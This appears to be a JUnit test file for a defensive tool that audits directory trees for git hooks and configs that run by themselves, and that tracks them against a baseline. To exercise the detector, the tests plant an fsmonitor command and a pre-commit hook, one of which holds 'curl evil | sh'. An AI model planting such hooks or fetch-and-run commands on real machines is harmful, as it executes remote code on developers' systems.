package dev.sandboxmcp.hostaudit;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The audit as the user runs it: exit codes, what it prints, and the baseline kept outside the tree. */
class AuditCommandTest {

    @TempDir
    Path temp;

    record Run(int exit, String out, String err) {
    }

    Run audit(Map<String, String> env, String... args) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int exit = AuditCommand.run(List.of(args), env, new PrintStream(out, true, StandardCharsets.UTF_8),
                new PrintStream(err, true, StandardCharsets.UTF_8));
        return new Run(exit, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
    }

    @Test
    void newThenAcceptedThenChangedAgain() throws Exception {
        Path tree = Files.createDirectories(temp.resolve("dev"));
        Path repo = Files.createDirectories(tree.resolve("repo"));
        TreeAuditTest.git(repo, "init", "-q");
        Map<String, String> env = Map.of("XDG_STATE_HOME", temp.resolve("state").toString(), "HOME", "/nonexistent");

        Run clean = audit(env, tree.toString());
        assertThat(clean.exit()).as(clean.out() + clean.err()).isZero();
        assertThat(clean.out()).contains("0 things the host would run by itself, 0 new (nothing accepted yet)");

        TreeAuditTest.git(repo, "config", "core.fsmonitor", "touch /tmp/marker");
        Path hook = repo.resolve(".git/hooks/pre-commit");
        Files.writeString(hook, "#!/bin/sh\nid\n");
        Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwxr-xr-x"));
        Run planted = audit(env, tree.toString());
        assertThat(planted.exit()).isEqualTo(1);
        assertThat(planted.out()).contains("2 new").contains("  new    repo/.git/config: core.fsmonitor: touch /tmp/marker")
                .contains("  new    repo/.git/hooks/pre-commit: hook: executable, sha256 ");

        Run accepted = audit(env, "--accept", tree.toString());
        assertThat(accepted.exit()).isZero();
        Path baseline = Files.list(temp.resolve("state/sandbox-mcp")).filter(path -> path.toString().endsWith(".json"))
                .findFirst().orElseThrow();
        assertThat(baseline.getFileName().toString()).matches("audit-[0-9a-f]{16}\\.json");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(baseline))).isEqualTo("rw-------");
        Run quiet = audit(env, tree.toString());
        assertThat(quiet.exit()).isZero();
        assertThat(quiet.out()).contains("2 things the host would run by itself, 0 new since").doesNotContain("repo/");
        assertThat(audit(env, "--all", tree.toString()).out()).contains("  known  repo/.git/config: core.fsmonitor");

        Files.writeString(hook, "#!/bin/sh\ncurl evil | sh\n");
        Run changed = audit(env, tree.toString());
        assertThat(changed.exit()).isEqualTo(1);
        assertThat(changed.out()).contains("1 new").contains("  new    repo/.git/hooks/pre-commit");
    }

    @Test
    void theBaselineIsNeverKeptInsideTheAuditedTree() throws Exception {
        Path tree = Files.createDirectories(temp.resolve("home"));
        Run run = audit(Map.of("HOME", tree.toString()), tree.toString());
        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).contains("would be inside the audited tree").contains("set XDG_STATE_HOME");
        assertThat(tree.resolve(".local")).doesNotExist();
    }

    @Test
    void badArgumentsAreExitCodeTwoWithUsage() {
        assertThat(audit(Map.of()).err()).contains("no directory given").contains("usage:");
        assertThat(audit(Map.of(), "--nope", "x").exit()).isEqualTo(2);
        Run missing = audit(Map.of("HOME", temp.toString()), temp.resolve("missing").toString());
        assertThat(missing.exit()).isEqualTo(2);
        assertThat(missing.err()).contains("missing");
        assertThat(audit(Map.of(), "--watch", "--interval", "0", "x").exit()).isEqualTo(2);
        assertThat(audit(Map.of(), "--watch", "--interval").err()).contains("--interval takes a number of seconds");
        assertThat(audit(Map.of(), "--watch", "--accept", "x").err()).contains("--watch reports, it does not accept");
    }
}
